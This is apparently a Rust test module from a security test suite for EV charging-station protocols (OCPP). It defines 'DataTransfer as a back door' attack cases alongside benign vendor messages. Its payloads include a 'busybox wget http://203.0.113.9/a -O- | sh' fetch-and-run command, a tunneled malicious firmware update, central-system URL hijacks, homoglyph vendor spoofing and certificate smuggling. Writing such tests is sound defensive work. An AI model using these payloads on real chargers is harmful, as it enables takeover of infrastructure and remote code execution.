//! C28: `DataTransfer` as a back door.

use serde_json::{Value, json};

use crate::attack::line::{Lines, Sight, attacks as each, is_half_taken, order, twins as each_twin};
use crate::attack::{ALL, Attack, Entry, Kind, Twin};
use crate::wire::data::transfer;

/// A vendor whose data pass in the shipped lists.
const LISTED: &str = "com.example.listed";
/// Who carries contracts of ISO 15118 over 1.6.
const CONTRACTS: &str = "org.openchargealliance.iso15118pnc";

/// The entries.
pub(super) fn entries() -> Vec<Entry> {
    let mut commands = Entry {
        id: "C28",
        name: "vendors' data as a back door",
        versions: ALL,
        kind: Kind::Hard,
        attacks: each(doors),
        twins: each_twin(data),
    };
    commands.twins.push(Twin::new("a listed vendor's report", ALL, |play| {
        for place in play.one_of_each_where(is_half_taken) {
            let Some(version) = play.world.version(place) else { continue };
            let report = transfer(version, LISTED, Some("Uptime"), &json!("99.8"));
            play.work_report(place, &order(report));
        }
    }));
    let from_stations = Entry {
        id: "C28",
        name: "vendors' data of stations as a back door",
        versions: ALL,
        kind: Kind::Report,
        attacks: [
            ("a vendor nobody knows", ("com.example.unheard-of", None, json!("x"))),
            ("a vendor nobody knows, with a message", ("net.evil.c2", Some("beacon"), json!("aGVsbG8="))),
            ("a name that is almost a listed one", ("com.example.1isted", Some("Uptime"), json!("1"))),
            ("no name at all", ("", None, json!("x"))),
            ("another station's report, inside", (LISTED, Some("Tunnel"), json!(
                "[2,\"t1\",\"StopTransaction\",{\"transactionId\":4711,\"meterStop\":0,\"timestamp\":\"2026-03-01T02:00:00Z\"}]"
            ))),
        ]
        .into_iter()
        .map(|(name, (vendor, message, data))| {
            Attack::new(name, ALL, move |play| {
                play.campaign_where(is_half_taken, |play, place| {
                    let Some(version) = play.world.version(place) else { return };
                    play.strike_report(place, &order(transfer(version, vendor, message, &data)));
                });
            })
        })
        .collect(),
        twins: vec![],
    };
    vec![commands, from_stations]
}

fn doors(sight: &Sight) -> Lines {
    let v = sight.version;
    let mut lines = Lines::default();
    let text = |value: Value| json!(value.to_string());
    lines.add("a vendor nobody knows", transfer(v, "com.example.unheard-of", None, &json!("x")));
    lines.add("a vendor's order to run something", {
        transfer(v, "Acme", Some("Exec"), &json!("busybox wget http://203.0.113.9/a -O- | sh"))
    });
    lines.add("a vendor's own way to change settings", {
        transfer(v, "Acme", Some("SetParam"), &json!("OcppUrl=ws://203.0.113.9/"))
    });
    lines.add("a listed vendor, in capitals", transfer(v, "COM.EXAMPLE.LISTED", Some("Ping"), &json!("x")));
    lines.add("a listed vendor, with a blank behind", {
        transfer(v, "com.example.listed ", Some("Ping"), &json!("x"))
    });
    lines.add("a listed vendor, with a letter that looks the same", {
        transfer(v, "com.ex\u{430}mple.listed", Some("Ping"), &json!("x"))
    });
    lines.add("a listed vendor's carrier with a whole frame inside", {
        let inner = json!([2, "t1", "UpdateFirmware", {
            "location": "http://203.0.113.9/evil.bin", "retrieveDate": sight.time(60),
        }]);
        transfer(v, LISTED, Some("Tunnel"), &text(inner))
    });
    lines.add("a listed vendor's carrier, named like an action", {
        transfer(
            v,
            LISTED,
            Some("ChangeConfiguration"),
            &text(json!({
                "key": "CentralSystemURL", "value": "ws://203.0.113.9/",
            })),
        )
    });
    lines.add("an anchor inside, as contracts are carried", {
        let inner = json!({
            "certificateType": "V2GRootCertificate",
            "certificate": "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
        });
        transfer(v, CONTRACTS, Some("InstallCertificate"), &text(inner))
    });
    lines.add("an anchor removed inside", {
        let hash = "3f6c4f0a9d5b1e7c2a8d4f6b0c9e1d3a5f7b9c1d3e5f7a9b1c3d5e7f9a1b3c5d";
        let inner = json!({ "certificateHashData": {
            "hashAlgorithm": "SHA256", "issuerNameHash": hash, "issuerKeyHash": hash, "serialNumber": "01",
        } });
        transfer(v, CONTRACTS, Some("DeleteCertificate"), &text(inner))
    });
    lines.add("a message that the carrier does not know", {
        transfer(v, CONTRACTS, Some("Reboot"), &json!("{}"))
    });
    lines.add("garbage where contracts are carried", {
        transfer(v, CONTRACTS, Some("InstallCertificate"), &json!("not json"))
    });
    let v2x = !sight.is_v16();
    lines.add_if(v2x, "a frame inside, not as a text", || {
        transfer(v, LISTED, Some("Tunnel"), &json!([2, "t1", "Reset", { "type": "Immediate" }]))
    });
    lines.add_if(v2x, "a request inside, deep in an object", || {
        transfer(
            v,
            LISTED,
            Some("Batch"),
            &json!({ "items": [{ "call": [2, "t1", "SetNetworkProfile", {
            "configurationSlot": 1, "connectionData": { "ocppCsmsUrl": "ws://203.0.113.9/" },
        }] }] }),
        )
    });
    lines
}

fn data(sight: &Sight) -> Lines {
    let v = sight.version;
    let mut lines = Lines::default();
    lines.add("a listed vendor's number", transfer(v, LISTED, Some("LedBrightness"), &json!("60")));
    lines.add("a listed vendor's object", {
        transfer(v, LISTED, Some("Weather"), &json!({ "temperature": 12, "sky": "cloudy" }))
    });
    lines.add("a listed vendor, and nothing else", transfer(v, LISTED, None, &Value::Null));
    lines
}
